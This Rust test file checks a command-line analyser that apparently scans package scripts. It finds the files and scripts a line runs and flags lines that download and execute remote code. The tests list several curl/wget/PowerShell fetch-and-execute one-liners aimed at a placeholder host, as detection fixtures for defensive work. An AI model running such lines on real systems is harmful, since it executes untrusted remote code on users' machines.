//! Command lines, and what they do.

use super::*;

#[test]
fn files_and_programs_that_are_run_are_found() {
    for (line, files) in [
        ("node bundle.js", &["bundle.js"][..]),
        ("node ./scripts/postinstall || exit 0", &["./scripts/postinstall"]),
        ("cross-env A=1 node --no-warnings x.mjs && ./y.sh", &["x.mjs", "./y.sh"]),
        ("node -r ./hook.js main.js", &["./hook.js", "main.js"]),
        ("sh -c 'python3 setup/x.py'", &["setup/x.py"]),
        ("bun run index.ts", &["index.ts"]),
        ("powershell -ExecutionPolicy -File a.ps1", &["a.ps1"]),
        ("husky install", &[]),
        ("node-gyp rebuild", &[]),
        ("echo node x.js", &[]),
    ] {
        assert_eq!(deeds(line).files, files, "{line}");
    }
    assert_eq!(deeds("npm run a && yarn b && run-s c d").scripts, ["a", "b", "c", "d"]);
    assert_eq!(deeds("npx -y only-allow pnpm").packages, ["only-allow"]);
    assert_eq!(
        deeds("node -e \"require('./x')\"").inline,
        [(Language::JavaScript, "require('./x')".to_owned())]
    );
}

#[test]
fn what_is_fetched_and_run_is_found() {
    for line in [
        "curl -fsSL https://x.example/i | bash",
        "curl https://x.example/i | sudo -E sh",
        "wget -q https://x.example/i -O i.sh; sh i.sh",
        "bash -c \"curl https://x.example/i | sh\"",
        "bash <(curl -s https://x.example/i)",
        "powershell -c \"iex (irm https://x.example/i)\"",
        "sh -c \"$(curl -fsSL https://x.example/i)\"",
        "node -e \"`curl -s https://x.example/i`\"",
    ] {
        let found = deeds(line);
        assert_eq!(found.runs_fetched.as_deref(), Some("https://x.example/i"), "{line}: {found:?}");
    }
    for line in [
        "curl -o data.json https://x.example/d",
        "curl https://localhost/i | sh",
        "curl -o i.sh https://x.example/i; sha256sum -c i.sum; sh i.sh",
        "echo 'curl https://x.example/i | sh'",
        "echo $(curl https://x.example/i)",
    ] {
        assert_eq!(deeds(line).runs_fetched, None, "{line}");
    }
}

#[test]
fn hostile_lines_end() {
    for text in ["'", "\"", "\\", "|", "sh -c ", "(", "a=", "é "] {
        deeds(&text.repeat(50_000));
    }
}
